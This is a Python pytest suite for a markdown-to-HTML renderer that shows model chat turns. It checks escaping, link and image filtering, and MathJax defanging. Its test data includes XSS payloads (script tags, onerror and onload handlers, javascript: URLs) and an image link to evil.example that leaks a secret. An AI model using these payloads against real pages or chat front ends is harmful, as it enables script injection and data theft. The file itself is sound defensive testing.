"""Rendering rules: safe HTML from markdown, safe markdown source, turn pieces and bundles.

The hostile corpus (tests/fixtures/hostile.md) is checked here in Python for every output we produce;
tests/test_render_browser.py loads the same renders in Chromium.
"""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mdit_py_plugins.dollarmath import dollarmath_plugin

from or_magic import render
from or_magic.markdown import (
    MarkdownStream,
    code_html,
    defang_tex,
    is_safe_url,
    plain_text,
    render_markdown,
    safe_markdown,
)

FIXTURES = Path(__file__).parent / "fixtures"


def load_cases(path: Path) -> list[tuple[str, str]]:
    """``%%% name`` lines start cases (text before the first one is a header)."""
    parts = re.split(r"^%%% (.*)\n", path.read_text(encoding="utf-8"), flags=re.MULTILINE)[1:]
    pairs = zip(parts[::2], parts[1::2], strict=True)
    return [(name, body[:-1] if body.endswith("\n") else body) for name, body in pairs]


HOSTILE = load_cases(FIXTURES / "hostile.md")


# ------------------------------------------------------------------------------ HTML safety check
ALLOWED_TAGS = {
    "a", "p", "em", "strong", "code", "pre", "div", "span", "ul", "ol", "li", "blockquote", "h1", "h2",
    "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "s", "del", "details",
    "summary",
}  # fmt: skip
URL_ATTRS = {
    "src",
    "srcset",
    "data",
    "action",
    "formaction",
    "poster",
    "background",
    "ping",
    "xlink:href",
    "lowsrc",
}


class _Checker(HTMLParser):
    def __init__(self, *, own_styles: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.own_styles = own_styles

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            elif name in URL_ATTRS:
                self.problems.append(f"{tag}[{name}={value!r}]")
            elif name == "href" and not re.match(r"(?i)(https?://|mailto:)", value):
                self.problems.append(f"{tag}[href={value!r}]")
            elif name == "style":
                ok = re.fullmatch(r"text-align:(left|right|center)", value) or (
                    self.own_styles and not re.search(r"(?i)url\(|expression|@import|\\", value)
                )
                if not ok:
                    self.problems.append(f"{tag}[style={value!r}]")
            elif name not in {"href", "target", "rel", "class", "title", "start", "role", "style", "open"}:
                self.problems.append(f"{tag}[{name}]")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append("<!--comment-->")

    def handle_pi(self, data: str) -> None:
        self.problems.append("<?pi?>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("<![decl]>")


def html_problems(html: str, *, own_styles: bool = False) -> list[str]:
    """What makes ``html`` unsafe to show: tags beyond markdown's, event handlers, URL-loading attributes,
    non-http(s)/mailto hrefs, styles beyond table alignment (``own_styles``: ours, without url())."""
    checker = _Checker(own_styles=own_styles)
    checker.feed(html)
    checker.close()
    return checker.problems


def permissive_md(*, math: bool) -> MarkdownIt:
    """How a front end renders text/markdown: raw HTML on, any link scheme kept (FRONTEND.md Q4)."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    if math:
        md.use(dollarmath_plugin)
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


def markdown_views(text: str) -> dict[str, str]:
    """safe_markdown(text) as three permissive renderers would show it."""
    import mistune

    safe = safe_markdown(text)
    return {
        "markdown-it html": permissive_md(math=False).render(safe),
        "markdown-it html+math": permissive_md(math=True).render(safe),
        "mistune escape=False": mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])(
            safe
        ),
    }


def assert_safe_everywhere(text: str) -> None:
    assert html_problems(render_markdown(text)) == [], text
    for view, html in markdown_views(text).items():
        assert html_problems(html) == [], (view, text, safe_markdown(text), html)


# --------------------------------------------------------------------------------- render_markdown
def test_raw_html_is_escaped() -> None:
    out = render_markdown("a <b>bold</b> <script>alert(1)</script>\n\n<div onclick=x>hi</div>\n")
    assert "<b>" not in out and "<script" not in out and "<div onclick" not in out
    assert "&lt;b&gt;bold&lt;/b&gt;" in out and "&lt;div onclick=x&gt;hi&lt;/div&gt;" in out


@pytest.mark.parametrize(
    ("src", "needle"),
    [
        ("$x_1*y_2$ and $a*b*c$", '<span class="math">$x_1*y_2$</span>'),
        ("$a_1$ and $b_1$", '<span class="math">$b_1$</span>'),
        ("$\\frac{a}{b} < c$", '<span class="math">$\\frac{a}{b} &lt; c$</span>'),
        ("$$\\int_0^1 x\\,dx$$", '<div class="math">$$\\int_0^1 x\\,dx$$</div>'),
        ("text $$a*b*c$$ text", '<span class="math display">$$a*b*c$$</span>'),
        ("$$\na_1 *b*\n\nc_2\n$$", '<div class="math">$$\na_1 *b*\n\nc_2\n$$</div>'),
    ],
)
def test_math_is_kept_verbatim(src: str, needle: str) -> None:
    out = render_markdown(src)
    assert needle in out
    assert "<em>" not in out


def test_dollars_as_money_are_not_math() -> None:
    out = render_markdown("It costs $5 and $10, or $ 3 $.")
    assert 'class="math"' not in out and "$5 and $10" in out


def test_code_is_highlighted_with_classes_only() -> None:
    out = render_markdown("```python\ndef f(x):\n    return x < 1  # <b>\n```\n")
    assert out.startswith('<div class="highlight"><pre>')
    assert (
        '<span class="k">def</span>' in out and '<span class="o">&lt;</span>' in out and "# &lt;b&gt;" in out
    )
    assert "style=" not in out and "<style" not in out


@pytest.mark.parametrize("info", ["", "nosuchlang", 'python" onclick="x', "../../etc"])
def test_unknown_or_no_language_is_plain_escaped(info: str) -> None:
    out = render_markdown(f"```{info}\n<b>x</b>\n```\n")
    assert out == "<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>\n"


def test_indented_code_and_code_spans_are_escaped() -> None:
    out = render_markdown("    <i>x</i>\n\nand `<i>y</i>`\n")
    assert (
        "<pre><code>&lt;i&gt;x&lt;/i&gt;\n</code></pre>" in out and "<code>&lt;i&gt;y&lt;/i&gt;</code>" in out
    )


def test_huge_code_is_not_highlighted() -> None:
    code = "x = 1\n" * 30_000
    assert code_html(code, "python").startswith("<pre><code>")


def test_tables_and_strikethrough() -> None:
    out = render_markdown("| a | b |\n|:--|--:|\n| `1` | ~~2~~ |\n")
    assert "<table>" in out and '<th style="text-align:left">a</th>' in out
    assert '<td style="text-align:right"><s>2</s></td>' in out and "<code>1</code>" in out


@pytest.mark.parametrize(
    "url", ["https://example.com/a?b=c", "http://example.com", "HTTPS://EXAMPLE.COM", "mailto:a@example.com"]
)
def test_safe_links_open_in_a_new_tab(url: str) -> None:
    out = render_markdown(f"[x]({url})")
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in out and "href=" in out


@pytest.mark.parametrize(
    "src",
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](/relative/path)",
        "[x](//evil.example/x)",
        "[x](#anchor)",
        "[x]()",
        "[x](<>)",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_unsafe_links_become_text(src: str) -> None:
    out = render_markdown(src)
    assert "<a " not in out and "href" not in out


def test_autolinks_follow_the_same_rules() -> None:
    out = render_markdown("<https://ok.example/a> <a@b.example> <javascript:x>")
    assert out.count("<a ") == 2 and 'href="mailto:a@b.example"' in out and "&lt;javascript:x&gt;" in out


def test_images_are_never_loaded() -> None:
    out = render_markdown('![a chart](https://evil.example/leak?d=secret "t") ![d](data:image/png;base64,AA)')
    assert "<img" not in out
    assert (
        '<a href="https://evil.example/leak?d=secret" target="_blank" rel="noopener noreferrer nofollow" '
        'class="or-image-link" title="image not loaded">🖼 a chart</a>'
    ) in out
    assert "![d](data:image/png;base64,AA)" in out  # not even a link


def test_image_inside_link_is_text() -> None:
    out = render_markdown("[![badge](https://evil.example/b.svg)](https://ok.example)")
    assert out.count("<a ") == 1 and "🖼 badge" in out and "<img" not in out


def test_reference_image_and_mailto_image() -> None:
    assert "<img" not in render_markdown("![x][i]\n\n[i]: https://evil.example/i.png")
    assert "<a " not in render_markdown("![x](mailto:a@b.example)")


def test_mathjax_commands_are_defanged_everywhere_but_code() -> None:
    src = "$\\href{javascript:x}{y}$ \\(\\style{color:red}{z}\\) `\\href{a}{b}`\n\n```\n\\href{c}{d}\n```\n"
    out = render_markdown(src)
    assert "\\href" not in out.split("<code>")[0] and "\\style" not in out
    assert "\\\u2060href" in out and "<code>\\href{a}{b}</code>" in out and "\\href{c}{d}" in out
    assert defang_tex("\\hrefx \\url{a} \\alpha") == "\\hrefx \\\u2060url{a} \\alpha"


def test_is_safe_url() -> None:
    assert is_safe_url("https://a") and is_safe_url("mailto:x@y")
    assert not is_safe_url("https://") and not is_safe_url("javascript:x") and not is_safe_url("/x")


def test_plain_text_is_the_answer() -> None:
    assert plain_text("a <b> *c*") == "a <b> *c*"


# ----------------------------------------------------------------------------------- safe_markdown
ORDINARY = [
    "# Title\n\nSome *text* with `code <b>` and **bold**.\n",
    "Math $x_1*y_2$ and $$\\int_0^1 f(x)\\,dx$$ and $a<b$, $p < q$.\n",
    "```html\n<script>alert(1)</script>\n<img src=x>\n```\n",
    "    <div>indented code</div>\n",
    "- a\n- b\n\n1. c\n2. d\n\n> quote with [link](https://example.com) and <https://example.com/x>\n",
    "| a | b |\n|---|---|\n| `<x>` | $y<z$ |\n",
    "Text with \\<escaped> angle and a\\*b.\n",
    '[ref][r] and [r]\n\n[r]: https://example.org "Title"\n[m]: <https://example.org/a b>\n',
    "$$\n\\begin{aligned} a &< b \\\\ c &> d \\end{aligned}\n$$\n",
    "Mail <me@example.com> and [mail](mailto:me@example.com).\n",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_safe_markdown_keeps_ordinary_markdown_byte_identical(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("src", "expected"),
    [
        ("a <b>x</b>", "a &lt;b>x&lt;/b>"),
        ("<div>\n*x*\n</div>", "&lt;div>\n*x*\n&lt;/div>"),
        ("![alt](https://evil.example/i.png)", "[🖼 alt](https://evil.example/i.png)"),
        ("![alt][r]\n\n[r]: https://evil.example/i.png", "[🖼 alt][r]\n\n[r]: https://evil.example/i.png"),
        ("![alt](data:image/png;base64,AA)", "🖼 alt"),
        ("![alt](/local.png)", "🖼 alt"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](&#106;avascript:alert(1))", "x"),
        ("[*x*](data:text/html,y 'z')", "*x*"),
        ("[x][r]\n\n[r]: javascript:alert(1)", "x\n\n\\[r]: javascript:alert(1)"),
        ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
        ("`<b>` <b>", "`<b>` &lt;b>"),
        ("$a<b>c$", "$a< b>c$"),  # TeX ignores the space; no HTML parser sees a tag
        ("$a<b$", "$a<b$"),
        ("$\\href{javascript:x}{y}$ `\\href`", "$\\\u2060href{javascript:x}{y}$ `\\href`"),
        ("\r\n<i>\r\n", "\n&lt;i>\n"),
    ],
)
def test_safe_markdown_rules(src: str, expected: str) -> None:
    assert safe_markdown(src) == expected


def test_safe_markdown_backtick_in_attribute_does_not_hide_html() -> None:
    # The raw tag swallows the first backtick; once escaped, that backtick opens a code span that would
    # leave the <img> outside code unless the result is re-checked.
    src = '<a title="`"> `<img src=x onerror="alert(1)">`'
    out = safe_markdown(src)
    assert "<a " not in out
    assert html_problems(permissive_md(math=False).render(out)) == []


def test_safe_markdown_is_idempotent_on_corpus() -> None:
    for _, text in HOSTILE:
        once = safe_markdown(text)
        assert safe_markdown(once) == once


# --------------------------------------------------------------------------------- hostile corpus
def test_corpus_is_big_enough() -> None:
    assert len(HOSTILE) >= 25


@pytest.mark.parametrize(("name", "text"), HOSTILE, ids=[n for n, _ in HOSTILE])
def test_hostile_render_markdown(name: str, text: str) -> None:
    out = render_markdown(text)
    assert html_problems(out) == []
    assert "<script" not in out and "<img" not in out and "javascript:" not in re.sub(r">[^<]*<", "><", out)


@pytest.mark.parametrize(("name", "text"), HOSTILE, ids=[n for n, _ in HOSTILE])
def test_hostile_safe_markdown(name: str, text: str) -> None:
    for view, html in markdown_views(text).items():
        assert html_problems(html) == [], (view, safe_markdown(text), html)
        assert "<img" not in html and "<script" not in html


@pytest.mark.parametrize(("name", "text"), HOSTILE, ids=[n for n, _ in HOSTILE])
def test_hostile_stream(name: str, text: str) -> None:
    s = MarkdownStream()
    out = []
    for ch in text:
        s.append(ch)
        out.append(s.take_frozen())
        assert html_problems(s.tail_html()) == []
    out.append(s.finish())
    assert html_problems("".join(out)) == []


@pytest.mark.parametrize(("name", "text"), HOSTILE, ids=[n for n, _ in HOSTILE])
def test_hostile_turn_bundle(name: str, text: str) -> None:
    bundle = render.final_bundle(hostile_view(text))
    assert html_problems(bundle["text/html"], own_styles=True) == []
    md = bundle["text/markdown"]
    assert html_problems(permissive_md(math=False).render(md)) == []


def hostile_view(text: str) -> render.TurnView:
    """Every field of a turn filled with the same hostile text."""
    return render.TurnView(
        text=text,
        reasoning=text,
        tool_calls=[{"id": "c1", "type": "function", "function": {"name": text[:40], "arguments": text}}],
        annotations=[
            {"type": "url_citation", "url_citation": {"url": "javascript:alert(1)", "title": text[:60]}},
            {"type": "url_citation", "url_citation": {"url": "https://ok.example/a", "title": text[:60]}},
        ],
        footer=render.Footer(model=text[:30], provider=text[-30:], status="interrupted"),
        error=render.ErrorView(
            kind="BadRequestResponseError",
            status=400,
            message=text,
            provider=text[:20],
            detail=text,
            hint=text,
            generation_id=text[:10],
        ),
        status="interrupted",
    )


def test_code_with_html_stays_visible_as_code() -> None:
    text = dict(HOSTILE)["code block containing html (must stay visible as code)"]
    out = render_markdown(text)
    assert "&lt;script&gt;__pwn(&#x27;code-fence&#x27;)&lt;/script&gt;" in out.replace("'", "&#x27;") or (
        "__pwn" in out and "&lt;script&gt;" in out
    )
    for html in markdown_views(text).values():
        code = "".join(re.findall(r"<code[^>]*>(.*?)</code>", html, flags=re.DOTALL))
        assert "&lt;script&gt;__pwn(" in code and "&lt;img src=x onerror=" in code


# ---------------------------------------------------------------------------------- hypothesis
FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=", "<svg onload=", "<a href=\"javascript:x\">", "<", ">",
    "\"", "'", "`", "``", "```", "~~~", "$", "$$", "\\", "[", "]", "(", ")", "![", "](", "]: ", "javascript:",
    "data:text/html,", "https://evil.example/x", "&#106;", "&lt;", "&#60;", "*", "_", "|", "---", "\n",
    "\n\n",
    "    ", "- ", "1. ", "> ", "# ", "a", "b c", "<!--", "-->", "<![CDATA[", "\\href{", "}", "=", "onerror",
]  # fmt: skip
PREFIXES = ["", "> ", "- ", "  ", "1. ", "    ", "\t", "| ", "# ", "> > ", "   - ", "> - ", "```", "$$"]
_inline = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=40).map("".join)
_line = st.tuples(st.sampled_from(PREFIXES), _inline.map(lambda s: s[:24])).map("".join)
#: Random markdown-ish text: free runs of fragments, or lines behind container and block prefixes.
markdownish = _inline | st.lists(_line, max_size=12).map("\n".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish)
def test_random_markdown_is_always_safe(text: str) -> None:
    assert_safe_everywhere(text)


@settings(max_examples=150, deadline=None)
@given(markdownish)
def test_safe_markdown_is_a_fixed_point(text: str) -> None:
    once = safe_markdown(text)
    assert safe_markdown(once) == once


# --------------------------------------------------------------------------------- turn pieces
def test_footer_text_and_html() -> None:
    f = render.Footer(
        model="sandbox/echo",
        provider="Sandbox",
        prompt_tokens=12,
        completion_tokens=34,
        cost=0.000012,
        ttft=0.21,
        tokens_per_s=160.4,
        sandbox=True,
    )
    assert render.footer_text(f) == (
        "sandbox/echo via Sandbox · 12→34 tok · $0.000012 · first token 0.21 s · 160 tok/s · sandbox"
    )
    html = render.footer_html(f)
    assert "<code>sandbox/echo via Sandbox</code>" in html and "var(--jp-ui-font-color2)" in html
    full = render.Footer(
        reasoning_tokens=5,
        prompt_tokens=None,
        completion_tokens=1200,
        cost=1.5,
        elapsed=12.34,
        status="interrupted",
        finish_reason="length",
    )
    assert render.footer_text(full) == (
        "?→1,200 tok (5 reasoning) · $1.5 · total 12.3 s · finish: length · interrupted"
    )
    assert render.footer_text(render.Footer()) == "" and render.footer_html(render.Footer()) == ""


def test_footer_escapes() -> None:
    html = render.footer_html(render.Footer(model="<img src=x onerror=alert(1)>", provider="$\\href{x}{y}$"))
    assert "<img" not in html and "\\\u2060href" in html


def test_error_card() -> None:
    e = render.ErrorView(
        kind="TooManyRequestsResponseError",
        status=429,
        message="Rate limited <b>",
        provider="Prov",
        detail='{"raw": "<script>"}',
        hint="Wait a bit",
        generation_id="gen-1",
        retry_after=2.5,
    )
    html = render.error_card_html(e)
    assert "TooManyRequestsResponseError (429)" in html and "&lt;b&gt;" in html and "&lt;script&gt;" in html
    assert "var(--jp-error-color1)" in html and "Traceback" not in html
    assert html_problems(html, own_styles=True) == []
    assert render.error_card_text(e) == (
        "⚠ TooManyRequestsResponseError (429): Rate limited <b>\n"
        "provider: Prov · retry after 2.5 s · generation: gen-1\n"
        'detail: {"raw": "<script>"}\nhint: Wait a bit'
    )
    assert render.error_card_text(render.ErrorView(kind="APIConnectionError")) == "⚠ APIConnectionError"


def test_reasoning() -> None:
    assert render.reasoning_html("") == "" and render.reasoning_html("  \n") == ""
    html = render.reasoning_html("Let me *think* about <b>it</b>.")
    assert html.startswith("<details") and "open" not in html.split(">")[0]
    assert "Reasoning (5 words)" in html and "<em>think</em>" in html and "&lt;b&gt;" in html
    long = "word " * 5000
    streaming = render.reasoning_html(long, streaming=True)
    assert "Reasoning… (5,000 words)" in streaming and len(streaming) < 3000


def test_tool_calls() -> None:
    calls = [
        {
            "id": "1",
            "type": "function",
            "function": {"name": "get_weather", "arguments": '{"city": "<Paris>"}'},
        },
        {"name": "flat", "arguments": {"a": [1, 2]}},
        {"function": {"name": "partial", "arguments": '{"a": '}},
    ]
    html = render.tool_calls_html(calls)
    assert html.count("<details") == 3 and "get_weather" in html and "&lt;Paris&gt;" in html
    assert "{\n  &quot;city&quot;: &quot;&lt;Paris&gt;&quot;\n}" in html and "{&quot;a&quot;: " in html
    assert render.tool_calls_html([]) == ""


def test_citations() -> None:
    anns = [
        {"type": "url_citation", "url_citation": {"url": "https://a.example/x", "title": "A <b>"}},
        {"type": "url_citation", "url_citation": {"url": "https://a.example/x", "title": "dup"}},
        {"type": "url_citation", "url_citation": {"url": "javascript:alert(1)", "title": "bad"}},
        {"type": "file", "file": {}},
        "junk",
    ]
    html = render.citations_html(anns)  # type: ignore[arg-type]
    assert html.count("<li>") == 2 and html.count("<a ") == 1 and "A &lt;b&gt;" in html
    assert 'href="javascript' not in html and html_problems(html, own_styles=True) == []
    assert render.citations_html([]) == "" and render.citations_html([{"type": "file"}]) == ""


def test_waiting_and_notice() -> None:
    assert "⏳ waiting for <code>openai/gpt-4o</code>… 1.2 s" in render.waiting_html("openai/gpt-4o", 1.23)
    n = render.notice_html("dry run", "nothing sent <b>")
    assert "or-magic-notice-dry-run" in n and "&lt;b&gt;" in n
    assert "or-magic-notice-x-y" in render.notice_html('x"<y', "t")


PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode()
GIF = base64.b64encode(b"GIF89a" + b"\0" * 20).decode()


def test_image_bundle() -> None:
    b = render.image_bundle(f"data:image/png;base64,{PNG}")
    assert b == {"image/png": PNG, "text/plain": "<image image/png, 0.0 KB>"}
    assert render.image_bundle(f"data:image/png;base64,{GIF}") == {  # the bytes decide the type
        "image/gif": GIF,
        "text/plain": "<image image/gif, 0.0 KB>",
    }
    assert render.image_bundle(f"data:image/jpeg;base64,{PNG[:20]}\n{PNG[20:]}") is not None
    for bad in [
        "https://evil.example/x.png",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png;base64,@@@",
        f"data:image/png,{PNG}",
        "data:image/png;base64," + base64.b64encode(b"<svg onload=alert(1)>").decode(),
        "",
    ]:
        assert render.image_bundle(bad) is None, bad


def test_final_bundle() -> None:
    view = render.TurnView(
        text="Hello *world* $x$\n\n```python\nprint(1)\n```\n",
        reasoning="hmm",
        footer=render.Footer(model="m/x", provider="P", prompt_tokens=1, completion_tokens=2, cost=0.001),
    )
    b = render.final_bundle(view)
    assert set(b) == {"text/html", "text/markdown", "text/plain"}
    html = b["text/html"]
    assert html.startswith('<div class="or-magic-turn">') and html.endswith("</div>")
    assert html.index("Reasoning") < html.index("Hello") < html.index("or-magic-footer")
    assert '<div class="highlight">' in html and "<style" not in html and "<script" not in html
    assert b["text/markdown"].startswith(view.text.rstrip("\n") + "\n\n")
    assert b["text/markdown"].endswith("*m/x via P · 1→2 tok · \\$0.001*")
    assert b["text/plain"] == view.text.rstrip("\n") + "\n\nm/x via P · 1→2 tok · $0.001"


def test_final_bundle_error_interrupted_and_empty() -> None:
    err = render.ErrorView(kind="StreamError", message="boom")
    b = render.final_bundle(render.TurnView(text="partial", error=err, status="error"))
    assert "partial" in b["text/html"] and "or-magic-error" in b["text/html"]
    assert b["text/plain"] == ("partial\n\nℹ partial — the answer above stopped when the error below happened\n"
                               "⚠ StreamError: boom")
    assert "partial — the answer above stopped" in b["text/html"]
    no_text = render.final_bundle(render.TurnView(error=err, status="error"))
    assert "partial —" not in no_text["text/html"]  # nothing streamed: no partial-answer notice
    assert "> ⚠ StreamError: boom" in b["text/markdown"]
    b = render.final_bundle(render.TurnView(text="part", status="interrupted"))
    assert "interrupted" in b["text/html"] and "interrupted" in b["text/plain"]
    assert "empty answer" in render.final_bundle(render.TurnView())["text/html"]
    assert "stale" in render.final_bundle(render.TurnView(text="x", status="stale"))["text/html"]


def test_final_bundle_markdown_for_tool_calls_and_citations() -> None:
    view = render.TurnView(
        tool_calls=[{"function": {"name": "f", "arguments": '{"code": "```"}'}}],
        annotations=[
            {"type": "url_citation", "url_citation": {"url": "https://a.example/(x)", "title": "A]"}}
        ],
    )
    md = render.final_bundle(view)["text/markdown"]
    assert '````json\n{\n  "code": "```"\n}\n````' in md
    assert "1. [A\\]](<https://a.example/(x)>)" in md
    html = permissive_md(math=False).render(md)
    assert 'href="https://a.example/(x)"' in html


def test_text_only() -> None:
    view = render.TurnView(text="answer", reasoning="a b c", footer=render.Footer(model="m"))
    assert render.text_only(view) == "[reasoning: 3 words]\n\nanswer\n\nm"
    assert render.text_only(render.TurnView(footer=render.Footer(model="m"))) == "m"


def test_render_has_no_network_or_ipython_imports() -> None:
    import subprocess
    import sys

    code = (
        "import sys, or_magic.render as r; r.final_bundle(r.TurnView(text='x')); "
        "r.MarkdownStream().append('x'); "
        "bad = [m for m in ('httpx', 'IPython', 'ipywidgets', 'or_magic.client') if m in sys.modules]; "
        "print(bad)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
